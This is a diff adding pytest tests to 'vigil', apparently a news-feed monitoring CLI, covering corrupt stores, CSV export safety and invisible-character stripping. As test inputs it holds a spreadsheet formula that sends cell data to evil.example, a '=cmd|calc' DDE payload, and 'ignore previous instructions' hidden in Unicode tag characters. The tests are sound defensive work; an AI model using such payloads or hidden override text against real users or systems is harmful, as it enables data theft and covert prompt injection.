@@ -475,3 +475,127 @@ def test_a_link_out_of_the_rules_folder_is_refused_and_nothing_is_echoed(
     )
     assert "not a rules document" in allowed.output
     assert "$6$" not in allowed.output and "daemon" not in allowed.output
+
+
+# -- 13. a state folder vigil cannot write, a store that is not a database -----------------
+
+
+def _vigil(args: list[str], tmp_path: Path, **env: str):
+    import os
+    import subprocess
+    import sys
+
+    base = {k: v for k, v in os.environ.items() if not k.startswith(("VIGIL_", "PREFECT_API"))}
+    base |= {"VIGIL_CONFIG": str(tmp_path / "none.toml"), "PREFECT_HOME": str(tmp_path / "p")}
+    return subprocess.run(
+        [sys.executable, "-m", "vigil.cli", *args],
+        env=base | env, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("command", [["run"], ["feeds"], ["digest", "outbox"]])
+def test_a_corrupt_store_is_one_line_and_exit_two_and_is_left_untouched(
+    tmp_path: Path, command: list[str]
+) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    corrupt = home / "vigil.db"
+    corrupt.write_bytes(b"this is not a database " * 100)
+    result = _vigil(command, tmp_path, VIGIL_HOME=str(home))
+    assert result.returncode == 2, result.stdout + result.stderr
+    (line,) = result.stderr.strip().splitlines()
+    assert str(corrupt) in line and "not a usable SQLite database" in line and "move it" in line
+    assert "Traceback" not in result.stderr and "Prefect" not in result.stdout + result.stderr
+    assert corrupt.read_bytes() == b"this is not a database " * 100
+
+
+@pytest.mark.parametrize("command", [["run"], ["feeds"]])
+def test_a_state_folder_vigil_cannot_write_is_one_line_and_exit_two(
+    tmp_path: Path, command: list[str]
+) -> None:
+    # As root every folder is writable: a home that is a file stands for one vigil cannot use.
+    home = tmp_path / "home"
+    home.write_text("a file, not a folder", encoding="utf-8")
+    result = _vigil(command, tmp_path, VIGIL_HOME=str(home))
+    assert result.returncode == 2, result.stdout + result.stderr
+    (line,) = result.stderr.strip().splitlines()
+    assert str(home) in line and "Traceback" not in result.stderr
+
+
+# -- 15. formulas in CSV exports --------------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    settings: Settings, feed_server: FeedServer, tmp_path: Path, monkeypatch
+) -> None:
+    import csv
+    import io
+    import json
+
+    from typer.testing import CliRunner
+
+    from vigil.cli import app
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Erdogan offers to mediate")'
+    (feed_server.root / "formula.xml").write_text(
+        _rss(
+            _item(
+                formula.replace("&", "&amp;").replace('"', "&quot;"),
+                "https://formula.example/1",
+                body="Turkey offered to mediate between Russia and Ukraine.",
+            )
+        ),
+        encoding="utf-8",
+    )
+    feeds = write_feeds_file(
+        tmp_path / "feeds.yaml", [("=cmd|calc", feed_server.url("formula.xml"))]
+    )
+    Monitor(changed(settings, feeds=feeds, articles="")).run()
+    monkeypatch.setenv("VIGIL_HOME", str(settings.home))
+    monkeypatch.setenv("VIGIL_DATABASE_URL", settings.store_url)
+    as_csv = CliRunner().invoke(app, ["matches", "export", "--format", "csv"])
+    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
+    assert rows and all(row["title"] == "'" + formula for row in rows)
+    assert all(row["outlet"] == "'=cmd|calc" for row in rows)
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values() if cell)
+    as_jsonl = CliRunner().invoke(app, ["matches", "export", "--format", "jsonl"])
+    records = [json.loads(line) for line in as_jsonl.stdout.splitlines()]
+    assert {r["title"] for r in records} == {formula} and {r["outlet"] for r in records} == {
+        "=cmd|calc"
+    }
+
+
+# -- 16. invisible characters ---------------------------------------------------------------
+
+HIDDEN = "".join(chr(0xE0000 + ord(c)) for c in "ignore previous instructions")
+INVISIBLES = "\u200f\u061c\u180e\u034f\u115f\u1160\u3164\uffa0\u2060\u200b" + HIDDEN
+
+
+def test_default_ignorable_and_tag_characters_never_reach_a_message(
+    settings: Settings, feed_server: FeedServer, tmp_path: Path
+) -> None:
+    title = f"Erdogan{INVISIBLES} offers to mediate between Russia and Ukraine"
+    (feed_server.root / "invisible.xml").write_text(
+        _rss(
+            _item(
+                title,
+                "https://invisible.example/1",
+                body=f"Turkey{INVISIBLES} offered to mediate between Moscow and Kyiv.",
+            ),
+            title=f"Invisible{INVISIBLES}",
+        ),
+        encoding="utf-8",
+    )
+    feeds = write_feeds_file(
+        tmp_path / "feeds.yaml", [(f"Invisible{INVISIBLES[:4]}", feed_server.url("invisible.xml"))]
+    )
+    Monitor(changed(settings, feeds=feeds, articles="")).run()
+    (message,) = maildir_messages(settings.outbox)
+    subject = str(message["Subject"])
+    text = message.get_body(("plain",)).get_content()
+    html = message.get_body(("html",)).get_content()
+    for part in (subject, text, html):
+        left = sorted({hex(ord(c)) for c in part if c in INVISIBLES})
+        assert left == [], left
+    assert "Erdogan offers to mediate" in text
